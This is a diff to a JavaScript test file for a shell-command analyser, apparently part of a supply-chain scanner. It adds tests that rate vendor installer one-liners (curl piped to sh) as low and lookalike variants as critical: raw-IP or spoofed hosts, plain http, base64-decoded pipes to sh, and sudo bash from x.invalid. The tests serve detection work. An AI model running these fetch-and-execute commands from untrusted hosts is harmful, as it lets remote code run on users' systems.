@@ -48,6 +48,43 @@ describe('command analyser', () => {
     });
   }
 
+  // Vendors' documented installers (signatures/patterns/installers.json): low, whatever form the vendor documents.
+  const installers = [
+    'curl -LsSf https://astral.sh/uv/install.sh | sh',
+    'curl -fsSL https://get.pnpm.io/install.sh | sh -',
+    "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y",
+    'curl -fsSL https://deb.nodesource.com/setup_20.x | sudo -E bash -',
+    'curl -fsSL https://get.docker.com -o get-docker.sh && sudo sh get-docker.sh',
+    'sh -c "$(curl -sSfL https://release.anza.xyz/stable/install)"',
+    'bash <(curl -s https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh)',
+    'powershell -c "irm https://astral.sh/uv/install.ps1 | iex"',
+    'curl -fsSL https://bun.sh/install | bash -s "bun-v1.2.0"',
+  ];
+  for (const cmd of installers) {
+    it(`vendor installer (low): ${cmd.slice(0, 70)}`, () => {
+      const a = analyseCommand(cmd, sigs);
+      assert.ok(a.traits.some((t) => t.kind === 'vendor-installer'), a.traits.map((t) => `${t.kind}:${t.severity}`).join(' '));
+      assert.equal(a.severity, 'low', a.traits.map((t) => `${t.kind}:${t.severity}`).join(' '));
+    });
+  }
+  // The same shapes from anywhere else, over http, decoded, or next to another download stay critical.
+  const notInstallers = [
+    'curl -fsSL http://get.pnpm.io/install.sh | sh -',
+    'curl -LsSf https://198.51.100.23/uv/install.sh | sh',
+    'curl -LsSf https://astral.sh.example.invalid/uv/install.sh | sh',
+    'curl -LsSf https://astral.sh:8443/uv/install.sh | sh',
+    'curl -LsSf https://astral.sh/uv/other.sh | sh',
+    `echo ${Buffer.from('curl -LsSf https://astral.sh/uv/install.sh | sh').toString('base64')} | base64 -d | sh`,
+    'curl https://astral.sh/uv/install.sh | sh && curl https://x.invalid/a.sh | bash',
+    'curl -fsSL https://x.invalid/a | sudo -E bash -',
+    'curl -fsSL https://x.invalid/a | bash -s -- --version 1',
+  ];
+  for (const cmd of notInstallers) {
+    it(`not a vendor installer (critical): ${cmd.slice(0, 70)}`, () => {
+      assert.equal(analyseCommand(cmd, sigs).severity, 'critical');
+    });
+  }
+
   const benign = ['husky', 'husky install', 'is-ci || husky install', 'prisma generate', 'node-gyp rebuild', 'node-gyp-build', 'prebuild-install || node-gyp rebuild', 'patch-package', 'npx lint-staged', 'tsc', 'npm run build', 'node install.js', 'nuxt prepare', 'echo done'];
   for (const cmd of benign) {
     it(`benign: ${cmd}`, () => {
